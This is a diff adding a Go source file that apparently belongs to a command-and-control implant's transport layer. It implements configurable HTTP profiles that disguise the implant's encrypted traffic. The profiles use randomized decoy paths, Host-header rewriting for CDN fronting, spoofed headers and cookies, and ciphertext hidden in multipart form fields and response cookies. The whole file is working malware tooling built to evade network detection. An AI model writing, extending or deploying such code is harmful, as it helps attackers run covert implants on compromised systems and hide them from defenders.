@@ -0,0 +1,166 @@
+package transports
+
+// {{if .HTTPServer}}
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"io"
+	"io/ioutil"
+	"log"
+	"math/rand"
+	"mime/multipart"
+	"net/http"
+
+	"gopkg.in/yaml.v2"
+)
+
+// HTTPProfile - Shapes what a request/response looks like on the wire: which
+// decoy paths stand in for our logical endpoints, what Host header to present
+// (for fronting through a CDN), what extra headers to send, and how the GCM
+// ciphertext gets framed into/out of the HTTP body. Built-in "default" just
+// passes everything through unchanged; a compiled-in JSON/YAML spec lets a
+// generator bake in a custom profile without touching this code.
+type HTTPProfile interface {
+	// Path returns the decoy path to request in place of logical (e.g.
+	// "/rsakey", "/start", or an arbitrary poll path), or "" to use logical
+	// unmodified.
+	Path(logical string) string
+
+	// Host returns the Host header to present, distinct from the address
+	// actually dialed/used for the TLS SNI, or "" to leave it alone.
+	Host() string
+
+	// Headers returns extra headers to set on every request (User-Agent,
+	// Accept, decoy cookies, ...).
+	Headers() map[string]string
+
+	// EncodeRequestBody frames outgoing ciphertext for transmission,
+	// returning the request body and an optional Content-Type override.
+	EncodeRequestBody(data []byte) (body io.Reader, contentType string, err error)
+
+	// DecodeResponseBody extracts ciphertext back out of a response framed
+	// by EncodeRequestBody's counterpart on the server side.
+	DecodeResponseBody(resp *http.Response) ([]byte, error)
+}
+
+// Compiled-in profile spec (JSON or YAML), baked in by the generator. Left
+// blank to use the default passthrough profile.
+var httpProfileSpec = `{{.HTTPProfileSpec}}`
+
+// defaultProfile - No decoy paths, no Host rewriting, no extra framing;
+// matches the transport's original behavior.
+type defaultProfile struct{}
+
+func (defaultProfile) Path(logical string) string { return "" }
+func (defaultProfile) Host() string               { return "" }
+func (defaultProfile) Headers() map[string]string { return nil }
+func (defaultProfile) EncodeRequestBody(data []byte) (io.Reader, string, error) {
+	return bytes.NewReader(data), "", nil
+}
+func (defaultProfile) DecodeResponseBody(resp *http.Response) ([]byte, error) {
+	return ioutil.ReadAll(resp.Body)
+}
+
+// profileSpec - JSON/YAML shape a generator can compile in to build a
+// specProfile without writing any Go.
+type profileSpec struct {
+	Host       string              `json:"host,omitempty" yaml:"host,omitempty"`
+	UserAgent  string              `json:"user_agent,omitempty" yaml:"user_agent,omitempty"`
+	Accept     string              `json:"accept,omitempty" yaml:"accept,omitempty"`
+	Headers    map[string]string   `json:"headers,omitempty" yaml:"headers,omitempty"`
+	Paths      map[string][]string `json:"paths,omitempty" yaml:"paths,omitempty"`             // logical endpoint -> decoy path choices, one picked per request
+	CookieName string              `json:"cookie_name,omitempty" yaml:"cookie_name,omitempty"` // responses (GET or POST): ciphertext read from this cookie when present
+	FormField  string              `json:"form_field,omitempty" yaml:"form_field,omitempty"`   // POST: ciphertext hidden in this multipart field
+}
+
+// specProfile - HTTPProfile backed by a compiled-in profileSpec.
+type specProfile struct {
+	spec profileSpec
+}
+
+// Path - Picks one of the compiled-in decoy paths for logical at random, so
+// repeated requests to the same logical endpoint don't all hit the same
+// fingerprintable path.
+func (p *specProfile) Path(logical string) string {
+	choices := p.spec.Paths[logical]
+	if len(choices) == 0 {
+		return ""
+	}
+	return choices[rand.Intn(len(choices))]
+}
+
+func (p *specProfile) Host() string {
+	return p.spec.Host
+}
+
+func (p *specProfile) Headers() map[string]string {
+	headers := map[string]string{}
+	for key, value := range p.spec.Headers {
+		headers[key] = value
+	}
+	if p.spec.UserAgent != "" {
+		headers["User-Agent"] = p.spec.UserAgent
+	}
+	if p.spec.Accept != "" {
+		headers["Accept"] = p.spec.Accept
+	}
+	return headers
+}
+
+func (p *specProfile) EncodeRequestBody(data []byte) (io.Reader, string, error) {
+	if p.spec.FormField == "" {
+		return bytes.NewReader(data), "", nil
+	}
+	buf := &bytes.Buffer{}
+	writer := multipart.NewWriter(buf)
+	field, err := writer.CreateFormField(p.spec.FormField)
+	if err != nil {
+		return nil, "", err
+	}
+	encoder := base64.NewEncoder(base64.StdEncoding, field)
+	if _, err := encoder.Write(data); err != nil {
+		return nil, "", err
+	}
+	if err := encoder.Close(); err != nil {
+		return nil, "", err
+	}
+	if err := writer.Close(); err != nil {
+		return nil, "", err
+	}
+	return buf, writer.FormDataContentType(), nil
+}
+
+func (p *specProfile) DecodeResponseBody(resp *http.Response) ([]byte, error) {
+	if p.spec.CookieName != "" {
+		for _, cookie := range resp.Cookies() {
+			if cookie.Name == p.spec.CookieName {
+				return base64.StdEncoding.DecodeString(cookie.Value)
+			}
+		}
+	}
+	return ioutil.ReadAll(resp.Body)
+}
+
+// loadHTTPProfile - Parses the compiled-in spec (tried as JSON, then YAML)
+// into an HTTPProfile, falling back to defaultProfile when none was baked
+// in or the spec fails to parse.
+func loadHTTPProfile() HTTPProfile {
+	if httpProfileSpec == "" {
+		return defaultProfile{}
+	}
+	spec := profileSpec{}
+	jsonErr := json.Unmarshal([]byte(httpProfileSpec), &spec)
+	if jsonErr != nil {
+		if yamlErr := yaml.Unmarshal([]byte(httpProfileSpec), &spec); yamlErr != nil {
+			// {{if .Debug}}
+			log.Printf("Failed to parse HTTP profile spec (json: %v) (yaml: %v)", jsonErr, yamlErr)
+			// {{end}}
+			return defaultProfile{}
+		}
+	}
+	return &specProfile{spec: spec}
+}
+
+// {{end}} -HTTPServer